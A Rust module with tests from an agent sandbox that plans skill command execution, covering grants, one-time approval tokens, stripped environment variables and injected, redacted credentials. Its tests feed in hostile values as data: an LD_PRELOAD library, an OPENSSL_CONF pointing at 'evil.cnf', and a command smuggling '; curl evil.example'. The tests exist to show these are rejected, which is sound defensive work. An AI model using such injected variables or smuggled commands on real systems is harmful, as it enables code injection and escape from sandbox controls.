//! One `exec` call as the backend builds it: the base policy, plus what the
//! call's skill is granted (persisted grants, and a one-time approval of
//! exactly this call), plus the variables injected into that skill's
//! sandbox only. Everything else runs with the base policy unchanged.
//!
//! The backend never trusts the gate's view: it judges the command again
//! ([`call::judge`]) and takes a one-time token only when it was issued for
//! the same skill, version and command. The token variable is always
//! removed from the command's environment. A call that gets a skill's
//! grants also loses every variable from the model that could make other
//! code than the skill's run in its process: all but the locale and the
//! terminal's shape ([`env_name_kept_for_skill`]),
//! and the injected values overwrite the model's.

use std::collections::BTreeMap;
use std::path::Path;

use super::attribution::{env_name_kept_for_skill, Resolve, SYSTEM_BIN_DIRS};
use super::call::{self, Inputs, Judgement};
use super::capabilities::{EnvSource, Exec, Request};
use super::once::{self, Tokens};
use super::snapshot;
use super::prompt::clean;

/// What the backend runs.
#[derive(Debug, Clone, PartialEq)]
pub struct ExecPlan {
    /// The skill whose grants apply (`None`: the base policy).
    pub skill: Option<String>,
    pub identity: Option<String>,
    /// The requests applied (granted, and approved once).
    pub applied: Vec<Request>,
    /// With a skill's grants, the command runs as this argv, directly (no
    /// shell): the program by its absolute path and the words as judged.
    pub argv: Option<Vec<String>>,
    /// The approval a one-time token came from.
    pub approval_id: Option<String>,
    pub policy: serde_json::Value,
    pub env: BTreeMap<String, String>,
    /// One short line each, for the person and the model.
    pub notices: Vec<String>,
    /// The injected variables, whose values are redacted from the output.
    pub redact: Vec<String>,
    /// Host directories the call must be able to read (the snapshot it runs).
    pub expose: Vec<std::path::PathBuf>,
}

/// What [`plan`] needs besides the judging inputs.
pub struct ExecInputs<'a> {
    pub command: &'a str,
    pub workdir: Option<&'a Path>,
    pub base_policy: &'a serde_json::Value,
    /// The command's variables as OpenClaw passes them.
    pub env: BTreeMap<String, String>,
    pub tokens: &'a Tokens,
    /// Values of `system.env` variables, by name, for this skill.
    pub skill_values: &'a dyn Fn(&str) -> BTreeMap<String, String>,
    /// Credential values of a configured service, by service name.
    pub service_values: &'a dyn Fn(&str) -> BTreeMap<String, String>,
    /// Where verified copies of skill code are kept ([`snapshot`]): a call
    /// with a skill's grants runs its copy there. `None`: the live
    /// directory (only for callers whose skills no sandbox can change).
    pub snapshot_root: Option<&'a Path>,
}

/// Build one call (see the module header).
pub fn plan(x: ExecInputs, inputs: &Inputs, fs: &dyn Resolve) -> Result<ExecPlan, String> {
    let j = call::judge(x.command, x.workdir, inputs, fs);
    plan_judged(j, x, inputs)
}

/// Build a call already judged (`sharkcage_run` names its skill).
pub fn plan_judged(j: Judgement, x: ExecInputs, inputs: &Inputs) -> Result<ExecPlan, String> {
    let mut env = x.env;
    let token = env.remove(once::ENV);
    let mut out = ExecPlan { skill: None, identity: None, applied: vec![], argv: None, approval_id: None, policy: x.base_policy.clone(), env: BTreeMap::new(), notices: vec![], redact: vec![], expose: vec![] };
    let call = match j {
        Judgement::Skill(c) => *c,
        _ => {
            if let Some(t) = token {
                x.tokens.discard(&t);
            }
            out.env = env;
            return Ok(out);
        }
    };
    let name = clean(&call.name);
    if let Some(e) = &call.error {
        if let Some(t) = token {
            x.tokens.discard(&t);
        }
        out.notices.push(format!("sc: skill {name} runs without its grants: {}", clean(e)));
        out.env = env;
        return Ok(out);
    }
    let mut once_caps = vec![];
    let mut once_expansion = vec![];
    if let Some(t) = token {
        match x.tokens.take(&t, &call.name, &call.identity, x.command) {
            Ok(o) => {
                once_caps = o.capabilities;
                once_expansion = o.expansion;
                out.approval_id = Some(o.approval_id);
            }
            Err(e) => out.notices.push(format!("sc: {e}; skill {name} runs with what is granted always")),
        }
    }
    let applied = call.effective(&once_caps, &once_expansion);
    if applied.is_empty() {
        if !call.missing.is_empty() {
            out.notices.push(format!("sc: skill {name} runs without grants (nothing approved for this version; sc approve {name})"));
        }
        out.env = env;
        return Ok(out);
    }
    let grant = call.grant(&applied, &inputs.cx)?;
    // The code that runs is a verified copy of the judged version.
    let mut argv = call.argv.clone();
    argv[0] = call.program.display().to_string();
    let (code_dir, code_file) = match x.snapshot_root {
        Some(root) => match set_apart(root, &call, &mut argv) {
            Ok(c) => c,
            Err(e) => {
                out.notices.push(format!("sc: skill {name} runs without its grants: its code could not be set apart ({})", clean(&e)));
                out.env = env;
                return Ok(out);
            }
        },
        None => (call.dir.clone(), call.host_file.clone()),
    };
    if x.snapshot_root.is_some() {
        out.expose.push(code_dir.clone());
    }
    grant.policy.merge_into(&mut out.policy)?;
    if grant.exec == Exec::SkillOnly {
        restrict_exec(&mut out.policy, &argv[0], &code_dir, &code_file)?;
    }
    out.argv = Some(argv);
    let dropped: Vec<String> = env.keys().filter(|k| !env_name_kept_for_skill(k)).cloned().collect();
    for k in &dropped {
        env.remove(k);
    }
    if !dropped.is_empty() {
        out.notices.push(format!(
            "sc: variable(s) {} not passed: a call with skill {name}'s grants gets only the locale and terminal settings from the call (the skill declares what else it needs)",
            dropped.iter().take(10).map(|k| clean(k)).collect::<Vec<_>>().join(", ")
        ));
    }
    let values = (x.skill_values)(&call.name);
    for (var, src) in &grant.inject_env {
        match (src, values.get(var)) {
            (EnvSource::Skill, Some(v)) => {
                env.insert(var.clone(), v.clone());
                out.redact.push(var.clone());
            }
            (EnvSource::Skill, None) => {
                env.remove(var);
                out.notices.push(format!("sc: variable {var} of skill {name} has no configured value (skills.entries.{name}.env.{var})"));
            }
            (EnvSource::Service(s), _) => match (x.service_values)(s).get(var) {
                Some(v) => {
                    env.insert(var.clone(), v.clone());
                    out.redact.push(var.clone());
                }
                None => {
                    env.remove(var);
                    out.notices.push(format!("sc: variable {var} of service {} has no stored value (sc config add-service)", clean(s)));
                }
            },
        }
    }
    out.notices.push(format!("sc: skill {name} runs with its grants: {}", describe(&applied)));
    out.skill = Some(call.name);
    out.identity = Some(call.identity);
    out.applied = applied;
    out.env = env;
    Ok(out)
}

/// Without `system.exec`: the call may start only its program (the skill's
/// file or its interpreter), what lies in the skill's directory, and the
/// program an `env` `#!` line of the skill's file names (found in the
/// system directories only). Enforced by the launcher (`execOnly`).
fn restrict_exec(policy: &mut serde_json::Value, program: &str, code_dir: &Path, code_file: &Path) -> Result<(), String> {
    let mut list = vec![program.to_string(), code_dir.display().to_string()];
    if let Some(target) = crate::launcher::exec_only::shebang_env_target(code_file) {
        if !target.contains('/') {
            if let Some(p) = SYSTEM_BIN_DIRS.iter().map(|d| Path::new(d).join(&target)).find(|p| p.is_file()) {
                list.push(p.display().to_string());
            }
        }
    }
    let fs = policy.as_object_mut().ok_or("the policy is not a JSON object")?.entry("filesystem").or_insert_with(|| serde_json::json!({}));
    let fs = fs.as_object_mut().ok_or("filesystem is not an object")?;
    // A base policy's own list stays: the call runs no more than it allows.
    fs.entry("execOnly").or_insert_with(|| serde_json::json!(list));
    Ok(())
}

/// Make (or find) the snapshot of the call's skill and point `argv` at it:
/// returns the snapshot directory and the file of it the call runs.
fn set_apart(root: &Path, call: &call::SkillCall, argv: &mut [String]) -> Result<(std::path::PathBuf, std::path::PathBuf), String> {
    let snap = snapshot::ensure(root, &call.dir, &call.identity)?;
    let real = std::fs::canonicalize(&call.dir).map_err(|e| format!("{}: {e}", call.dir.display()))?;
    let rel = call.host_file.strip_prefix(&real).map_err(|_| format!("{} is not inside {}", call.host_file.display(), real.display()))?;
    let file = snap.join(rel);
    let at = argv.get_mut(call.code_at).ok_or("internal: no such argument")?;
    *at = file.display().to_string();
    Ok((snap, file))
}

/// `network.external api.example.com; system.env KEY`.
pub fn describe(reqs: &[Request]) -> String {
    reqs.iter()
        .map(|r| if r.scope.is_empty() { r.capability.name().to_string() } else { format!("{} {}", r.capability.name(), r.scope.iter().map(|s| clean(s)).collect::<Vec<_>>().join(", ")) })
        .collect::<Vec<_>>()
        .join("; ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::skills::attribution::HostFs;
    use crate::skills::call::KnownSkill;
    use crate::skills::capabilities::{Capability, Context};
    use crate::skills::grants::{By, Decision, GrantRecord, Grants};
    use crate::skills::once::Once;
    use std::path::PathBuf;
    use std::time::Duration;

    const MD: &str = "---\nname: weather\ndescription: d\nmetadata: {\"sharkcage\": {\"version\": 1, \"capabilities\": [\
        {\"capability\": \"network.external\", \"reason\": \"api\", \"scope\": [\"api.example.com\"]},\
        {\"capability\": \"system.env\", \"reason\": \"key\", \"scope\": [\"WEATHER_KEY\"]}]}}\n---\nbody\n";

    struct World {
        _t: tempfile::TempDir,
        ws: PathBuf,
        skills: Vec<KnownSkill>,
        cmd: String,
    }

    fn world() -> World {
        let t = tempfile::tempdir().unwrap();
        let ws = t.path().to_path_buf();
        let d = ws.join("skills/weather");
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("SKILL.md"), MD).unwrap();
        std::fs::write(d.join("run.sh"), "#!/bin/sh\necho hi\n").unwrap();
        let cmd = format!("sh {}/run.sh", d.display());
        World { skills: vec![KnownSkill { name: "weather".into(), dir: d, mapped: vec![] }], ws, cmd, _t: t }
    }

    fn run(w: &World, grants: &Grants, tokens: &Tokens, command: &str, env: &[(&str, &str)]) -> ExecPlan {
        let inputs = Inputs { skills: &w.skills, grants, ceiling: None, auto_approve: &[], history: None, cx: Context { workspace: &w.ws, home: None, services: &[] } };
        let base = serde_json::json!({ "network": { "allowedDomains": ["registry.npmjs.org"] } });
        let values = |_: &str| BTreeMap::from([("WEATHER_KEY".to_string(), "K-123".to_string())]);
        let none = |_: &str| BTreeMap::new();
        let x = ExecInputs { command, workdir: Some(&w.ws), base_policy: &base, env: env.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect(), tokens, skill_values: &values, service_values: &none, snapshot_root: None };
        plan(x, &inputs, &HostFs).unwrap()
    }

    fn identity(w: &World) -> String {
        crate::skills::identity::identify(&w.skills[0].dir).unwrap().digest
    }

    #[test]
    fn without_grants_the_base_policy_and_no_injection() {
        let w = world();
        let p = run(&w, &Grants::default(), &Tokens::new(), &w.cmd, &[("SHARKCAGE_GRANT", "once-forged"), ("WEATHER_KEY", "model")]);
        assert_eq!(p.skill, None);
        assert_eq!(p.policy["network"]["allowedDomains"], serde_json::json!(["registry.npmjs.org"]));
        assert!(!p.env.contains_key("SHARKCAGE_GRANT"), "the token variable never reaches the command");
        assert!(p.notices.iter().any(|n| n.contains("unknown")), "{:?}", p.notices);
    }

    #[test]
    fn a_one_time_token_applies_once_to_its_command_only() {
        let w = world();
        let tokens = Tokens::new();
        let caps = vec![Request { capability: Capability::NetworkExternal, reason: String::new(), scope: vec!["api.example.com".into()] }, Request { capability: Capability::SystemEnv, reason: String::new(), scope: vec!["WEATHER_KEY".into()] }];
        let once = || Once { skill: "weather".into(), identity: identity(&w), command: w.cmd.clone(), capabilities: caps.clone(), expansion: vec![], approval_id: "plugin:1".into() };
        let t = tokens.issue(once(), Duration::from_secs(60)).unwrap();
        let p = run(&w, &Grants::default(), &tokens, &w.cmd, &[("SHARKCAGE_GRANT", &t), ("LD_PRELOAD", "/x.so"), ("OPENSSL_CONF", "/w/evil.cnf"), ("SOME_TOOL_CONF", "/w/x"), ("LANG", "C.UTF-8"), ("WEATHER_KEY", "model")]);
        assert_eq!(p.skill.as_deref(), Some("weather"));
        assert_eq!(p.policy["network"]["allowedDomains"], serde_json::json!(["registry.npmjs.org", "api.example.com"]));
        assert_eq!(p.policy["env"], serde_json::json!(["WEATHER_KEY"]));
        assert_eq!(p.env.get("WEATHER_KEY").map(String::as_str), Some("K-123"), "the configured value, not the model's");
        assert_eq!(p.redact, vec!["WEATHER_KEY".to_string()], "an injected value is redacted from the output");
        assert!(!p.env.contains_key("LD_PRELOAD"));
        assert!(!p.env.contains_key("OPENSSL_CONF") && !p.env.contains_key("SOME_TOOL_CONF"), "by rule, not by a list");
        assert_eq!(p.env.get("LANG").map(String::as_str), Some("C.UTF-8"));
        assert_eq!(p.approval_id.as_deref(), Some("plugin:1"));
        // Run directly, and without system.exec only the skill's program and code may start.
        let argv = p.argv.clone().unwrap();
        assert!(argv[0].ends_with("/sh") && argv[0].starts_with('/') && argv[1].ends_with("skills/weather/run.sh"), "{argv:?}");
        let exec_only = p.policy["filesystem"]["execOnly"].as_array().unwrap();
        assert_eq!(exec_only[0], serde_json::json!(argv[0]));
        assert!(exec_only[1].as_str().unwrap().ends_with("skills/weather"));
        // Used: the same token again gives the base policy.
        let again = run(&w, &Grants::default(), &tokens, &w.cmd, &[("SHARKCAGE_GRANT", &t)]);
        assert_eq!(again.skill, None);
        // A token for this skill given to a compound command: base policy, and the token is gone.
        let t = tokens.issue(once(), Duration::from_secs(60)).unwrap();
        let compound = format!("{}; curl evil.example", w.cmd);
        let c = run(&w, &Grants::default(), &tokens, &compound, &[("SHARKCAGE_GRANT", &t)]);
        assert_eq!(c.skill, None);
        assert!(!c.env.contains_key("WEATHER_KEY"));
        assert_eq!(run(&w, &Grants::default(), &tokens, &w.cmd, &[("SHARKCAGE_GRANT", &t)]).skill, None, "the token was discarded by the mismatch");
    }

    #[test]
    fn a_service_capability_reaches_the_endpoint_with_the_stored_credentials() {
        let t = tempfile::tempdir().unwrap();
        let ws = t.path().to_path_buf();
        let d = ws.join("skills/lights");
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("sharkcage.json"), r#"{"version": 1, "capabilities": [{"capability": "home.read", "reason": "read the lights"}]}"#).unwrap();
        std::fs::write(d.join("run.sh"), "echo hi\n").unwrap();
        let skills = vec![KnownSkill { name: "lights".into(), dir: d.clone(), mapped: vec![] }];
        let id = crate::skills::identity::identify(&d).unwrap().digest;
        let mut g = Grants::default();
        g.record(GrantRecord { skill: "lights".into(), identity: id, capability: Capability::HomeRead, scope: vec![], decision: Decision::AllowAlways, granted_at: "2026-01-01T00:00:00Z".into(), by: By::Cli, approval_id: "ap-1".into() });
        let services = vec![crate::skills::Service { name: "ha".into(), family: "home".into(), endpoint: "ha.lan:8123".into(), credential_env: vec!["HA_TOKEN".into()] }];
        let inputs = Inputs { skills: &skills, grants: &g, ceiling: None, auto_approve: &[], history: None, cx: Context { workspace: &ws, home: None, services: &services } };
        let base = serde_json::json!({});
        let none = |_: &str| BTreeMap::new();
        let creds = |s: &str| if s == "ha" { BTreeMap::from([("HA_TOKEN".to_string(), "t0k".to_string())]) } else { BTreeMap::new() };
        let cmd = format!("sh {}/run.sh", d.display());
        let tokens = Tokens::new();
        let x = ExecInputs { command: &cmd, workdir: Some(&ws), base_policy: &base, env: BTreeMap::from([("HA_TOKEN".to_string(), "model".to_string())]), tokens: &tokens, skill_values: &none, service_values: &creds, snapshot_root: None };
        let p = plan(x, &inputs, &HostFs).unwrap();
        assert_eq!(p.policy["network"]["allowedDomains"], serde_json::json!(["ha.lan:8123"]));
        assert_eq!(p.env.get("HA_TOKEN").map(String::as_str), Some("t0k"));
    }

    #[test]
    fn a_granted_call_runs_a_verified_copy_never_the_live_directory() {
        let w = world();
        let mut g = Grants::default();
        g.record(GrantRecord { skill: "weather".into(), identity: identity(&w), capability: Capability::NetworkExternal, scope: vec![], decision: Decision::AllowAlways, granted_at: "2026-01-01T00:00:00Z".into(), by: By::Chat, approval_id: "plugin:2".into() });
        let snaps = w.ws.join("snapshots");
        let inputs = Inputs { skills: &w.skills, grants: &g, ceiling: None, auto_approve: &[], history: None, cx: Context { workspace: &w.ws, home: None, services: &[] } };
        let base = serde_json::json!({});
        let none = |_: &str| BTreeMap::new();
        let tokens = Tokens::new();
        let x = ExecInputs { command: &w.cmd, workdir: Some(&w.ws), base_policy: &base, env: BTreeMap::new(), tokens: &tokens, skill_values: &none, service_values: &none, snapshot_root: Some(&snaps) };
        let p = plan(x, &inputs, &HostFs).unwrap();
        let argv = p.argv.unwrap();
        assert!(argv[1].starts_with(&snaps.display().to_string()) && argv[1].ends_with("/run.sh"), "{argv:?}");
        assert_eq!(std::fs::read_to_string(&argv[1]).unwrap(), "#!/bin/sh\necho hi\n");
        assert_eq!(p.expose.len(), 1);
        assert_eq!(p.policy["filesystem"]["execOnly"][1], serde_json::json!(p.expose[0].display().to_string()), "only the copy may run");
    }

    #[test]
    fn persisted_grants_apply_without_a_token_until_the_skill_changes() {
        let w = world();
        let mut g = Grants::default();
        g.record(GrantRecord { skill: "weather".into(), identity: identity(&w), capability: Capability::NetworkExternal, scope: vec![], decision: Decision::AllowAlways, granted_at: "2026-01-01T00:00:00Z".into(), by: By::Chat, approval_id: "plugin:2".into() });
        let p = run(&w, &g, &Tokens::new(), &w.cmd, &[]);
        assert_eq!(p.skill.as_deref(), Some("weather"));
        assert_eq!(p.applied.len(), 1);
        assert!(!p.env.contains_key("WEATHER_KEY"), "system.env was not granted");
        std::fs::write(w.skills[0].dir.join("run.sh"), "#!/bin/sh\necho changed\n").unwrap();
        let p = run(&w, &g, &Tokens::new(), &w.cmd, &[]);
        assert_eq!(p.skill, None);
        assert!(p.notices.iter().any(|n| n.contains("without grants")), "{:?}", p.notices);
    }
}
